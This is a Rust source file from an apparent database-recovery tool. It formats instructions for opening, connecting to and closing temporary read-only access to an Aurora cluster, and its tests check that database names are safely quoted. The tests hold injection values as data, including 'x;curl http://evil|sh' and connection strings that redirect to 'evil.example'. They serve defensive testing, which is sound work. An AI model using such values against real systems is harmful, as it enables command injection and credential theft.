//! A way into what a recovery left behind: before it is opened, once it is open, and closed.

use crate::document::Document;
use crate::flags::quoted;
use jiff::SignedDuration;
use rewind_core::{Opening, RecoveryRecord, Strategy, format_duration, format_time};

/// Formats what is about to be opened, for whoever confirms it.
pub fn to_open(recovery: &RecoveryRecord, cluster: &str, from: &str, length: SignedDuration) -> Document {
    let mut document = Document::new();
    document.heading(format!("Opening {cluster}, which {} left behind:", recovery.id));
    document.item(format!(
        "a login is made that reads one database of {cluster}, one connection at a time, and writes nothing"
    ));
    document.item(format!(
        "{from} alone is let in, for {}; then the session that reads ends, and the login goes",
        format_duration(length)
    ));
    let in_place = recovery.plan.as_ref().is_some_and(|plan| plan.strategy == Strategy::Backtrack);
    if !in_place {
        document.item(format!("the fence of {cluster} stays up for everybody else but its master user, who can write from that address too; traffic stays where it is"));
    }
    document.item("it is recorded who reads, from where and until when, and an event says so");
    document
}

/// Formats that the execution `execution` opens what a recovery left behind, while people wait for it.
pub fn opening(id: &str, execution: &str) -> Document {
    at_work(
        id,
        execution,
        "opens it, which takes half a minute or more",
        "it is opened whether this command waits or not",
    )
}

/// Formats that the execution `execution` closes what a recovery left behind, while people wait for it.
pub fn closing(id: &str, execution: &str) -> Document {
    at_work(id, execution, "closes it, which takes some seconds", "it is closed whether this command waits or not")
}

fn at_work(id: &str, execution: &str, what: &str, goes_on: &str) -> Document {
    let mut document = Document::new();
    document.heading(format!("{execution} {what}"));
    document.command("to see it", format!("rewind status {id}"), format!("{goes_on}: Ctrl-C stops nothing"));
    document
}

/// Formats how to connect.
pub fn opened(id: &str, opening: &Opening) -> Document {
    let mut document = Document::new();
    let Opening { by, from, until, at, .. } = opening;
    let Some(at) = at else { return document };
    let until = format_time(*until);
    document.good(format!("{} is open for reading to {by}, from {from}, until {until}", at.cluster));
    document.field("host", &at.host);
    document.field("port", at.port);
    document.field("database", &at.database);
    document.field("user", &at.user);
    document.field("network", &at.network);
    for what in &at.unread {
        document.item(what);
    }
    document.field(
        "password",
        format!("aws secretsmanager get-secret-value --secret-id '{}' --query SecretString --output text", at.secret),
    );
    document.field(
        "connect",
        match at.engine.as_str() {
            // Whoever creates a database chooses its name: it is no word of a shell, and no further setting of the connection.
            "aurora-mysql" => format!(
                "mysql --host={} --port={} --user={} --password --ssl-mode=REQUIRED {}",
                at.host,
                at.port,
                at.user,
                quoted(&format!("--database={}", at.database))
            ),
            _ => format!(
                "psql {}",
                quoted(&format!(
                    "host={} port={} user={} dbname={} sslmode=require",
                    at.host,
                    at.port,
                    at.user,
                    of_connection(&at.database)
                ))
            ),
        },
    );
    document.field("close", format!("rewind open {id} --close"));
    document
}

/// A value in a connection string of libpq, in quotes where it needs them.
fn of_connection(value: &str) -> String {
    match !value.is_empty() && value.chars().all(|c| c.is_ascii_alphanumeric() || "_.-".contains(c)) {
        true => value.to_owned(),
        false => format!("'{}'", value.replace('\\', r"\\").replace('\'', r"\'")),
    }
}

/// Formats that it is closed.
pub fn closed(id: &str) -> Document {
    let mut document = Document::new();
    document.good(format!("what {id} left behind is closed: nobody reads there any more"));
    document
}

#[cfg(test)]
mod tests {
    use super::*;
    use rewind_aws::fixtures::{in_place_plan, plan, recovery_record, time};
    use rewind_core::OpenedAt;

    #[test]
    fn whoever_opens_it_reads_how_to_connect_and_how_to_close() {
        let at = OpenedAt {
            cluster: "orders".into(),
            engine: "aurora-postgresql".into(),
            host: "orders.cluster-x".into(),
            port: 5433,
            database: "shop".into(),
            user: "rewind_open_1".into(),
            secret: "arn:secret".into(),
            network: "203.0.113.7 is admitted".into(),
            unread: vec!["not read: public.a of x".into()],
        };
        let opening = Opening {
            id: "r-1-open".into(),
            by: "ann".into(),
            from: "203.0.113.7".into(),
            until: time("2026-11-23T13:00:00Z"),
            database: None,
            at: Some(at.clone()),
        };
        let text = opened("r-1", &opening).to_string();
        let psql = "psql 'host=orders.cluster-x port=5433 user=rewind_open_1 dbname=shop sslmode=require'";
        for part in ["until 2026-11-23T13:00:00Z", psql, "--secret-id 'arn:secret'", "rewind open r-1 --close"] {
            assert!(text.contains(part), "{part}: {text}");
        }
        assert!(text.contains("not read: public.a of x"), "{text}");
        let mysql = OpenedAt { engine: "aurora-mysql".into(), ..at };
        let text = opened("r-1", &Opening { at: Some(mysql), ..opening }).to_string();
        let mysql = "mysql --host=orders.cluster-x --port=5433 --user=rewind_open_1 --password --ssl-mode=REQUIRED --database=shop";
        assert!(text.contains(mysql), "{text}");
    }

    #[test]
    fn whoever_waits_reads_what_works_and_how_to_see_it_later() {
        for text in [super::opening("r-1", "r-1-open").to_string(), closing("r-1", "r-1-open").to_string()] {
            assert!(text.starts_with("r-1-open ") && text.contains("  to see it        rewind status r-1\n"), "{text}");
            assert!(text.contains("Ctrl-C stops nothing"), "{text}");
        }
    }

    #[test]
    fn the_name_of_a_database_is_a_name_for_a_shell_and_for_the_connection() {
        let command = |engine: &str, database: &str| {
            let at = OpenedAt {
                cluster: "orders".into(),
                engine: engine.into(),
                host: "h".into(),
                port: 1,
                database: database.into(),
                user: "u".into(),
                secret: "arn:secret".into(),
                network: String::new(),
                unread: Vec::new(),
            };
            let opening = Opening {
                id: "r-1-open".into(),
                by: "ann".into(),
                from: "203.0.113.7".into(),
                until: time("2026-11-23T13:00:00Z"),
                database: Some(database.into()),
                at: Some(at),
            };
            opened("r-1", &opening).to_string()
        };
        for (database, words) in [
            ("x;curl http://evil|sh", "'--database=x;curl http://evil|sh'"),
            ("$(id)`id`", "'--database=$(id)`id`'"),
            ("it's", r"'--database=it'\''s'"),
            ("-e", "--database=-e"),
        ] {
            let text = command("aurora-mysql", database);
            assert!(text.contains(&format!("--ssl-mode=REQUIRED {words}")), "{text}");
        }
        for (database, words) in [
            // Without quotes of its own, libpq would send the password to that host.
            ("shop host=evil.example", r"dbname='\''shop host=evil.example'\'' sslmode=require'"),
            ("it's", r"dbname='\''it\'\''s'\'' sslmode=require'"),
            ("a\\", r"dbname='\''a\\'\'' sslmode=require'"),
            ("postgres://evil.example", r"dbname='\''postgres://evil.example'\'' sslmode=require'"),
            ("shop=1", r"dbname='\''shop=1'\'' sslmode=require'"),
        ] {
            let text = command("aurora-postgresql", database);
            assert!(text.contains(words), "{text}");
        }
    }

    #[test]
    fn whoever_confirms_reads_that_the_fence_stays_where_there_is_one() {
        let length = SignedDuration::from_hours(1);
        let source = to_open(&recovery_record(&plan()), "orders", "203.0.113.7", length).to_string();
        assert!(source.contains("the fence of orders stays up") && source.contains("for 1h"), "{source}");
        let clone = to_open(&recovery_record(&in_place_plan()), "orders-clone", "203.0.113.7", length).to_string();
        assert!(!clone.contains("fence"), "{clone}");
    }
}
